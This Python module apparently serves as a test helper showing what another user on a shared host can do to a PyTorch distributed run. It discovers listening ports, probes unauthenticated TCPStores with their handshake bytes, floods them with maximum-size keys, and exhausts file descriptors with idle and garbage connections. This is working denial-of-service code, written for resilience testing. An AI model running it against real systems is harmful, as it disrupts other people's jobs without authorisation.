"""What another user of a host can do to the ports of a run: find them, and connect without the run's token."""

import contextlib
import os
import socket
import struct
from collections.abc import Iterable
from dataclasses import dataclass, field
from datetime import timedelta

import psutil
from torch._C._distributed_c10d import TCPStore

Address = tuple[str, int]
IDLE = 1100
"""More connections than the usual soft limit of descriptors, 1024."""
LARGE_BYTES = 8 << 20
"""The longest value that a TCPStore accepts."""
_VALIDATE, _PING = b"\x00\xce\xf7\x85\x3c", b"\x0d"
"""How a client of a TCPStore begins (torch/csrc/distributed/c10d/TCPStoreBackend.hpp); a store answers the nonce that
follows. torch's own client waits forever for another kind of listener."""
GARBAGE = [b"\0", b"GET / HTTP/1.0\r\n\r\n", struct.pack("<Q", 2**63) + bytes(4096), bytes(range(256)) * 64]


def listeners(processes: Iterable[psutil.Process]) -> dict[Address, psutil.Process]:
    """The TCP addresses on which processes listen."""
    found = {}
    for process in processes:
        with contextlib.suppress(psutil.Error):
            for each in process.net_connections("tcp"):
                if each.status == psutil.CONN_LISTEN:
                    found[each.laddr.ip.removeprefix("::ffff:"), each.laddr.port] = process
    return found


def is_open_store(address: Address, timeout_s: float = 2.0) -> bool:
    """Whether a TCPStore answers there, which it does for everybody."""
    nonce = os.urandom(4)
    try:
        with socket.create_connection(address, timeout=timeout_s) as asked:
            asked.sendall(_VALIDATE + _PING + nonce)
            return asked.recv(4) == nonce
    except OSError:
        return False


def send_large_keys(address: Address, count: int) -> bool:
    """Stores values of the largest size. Returns whether the store took all of them."""
    try:
        store = TCPStore(*address, is_master=False, timeout=timedelta(seconds=20))
        for number in range(count):
            store.set(f"large/{number}", "x" * LARGE_BYTES)
    except RuntimeError:
        return False
    return True


@dataclass
class Intruder:
    """Holds idle connections and sends garbage."""

    held: list[socket.socket] = field(default_factory=list)
    attacked: dict[Address, str] = field(default_factory=dict)
    """The attacked addresses, with the names of their processes."""

    def attack(self, address: Address, name: str = "", idle: int = IDLE) -> None:
        """Opens idle connections to an address, and others that send garbage."""
        self.attacked[address] = name
        for number in range(idle):
            with contextlib.suppress(OSError):
                connected = socket.create_connection(address, timeout=2.0)
                self.held.append(connected)
                if number % 20 == 0:
                    connected.sendall(GARBAGE[number // 20 % len(GARBAGE)])

    def close(self) -> None:
        while self.held:
            self.held.pop().close()
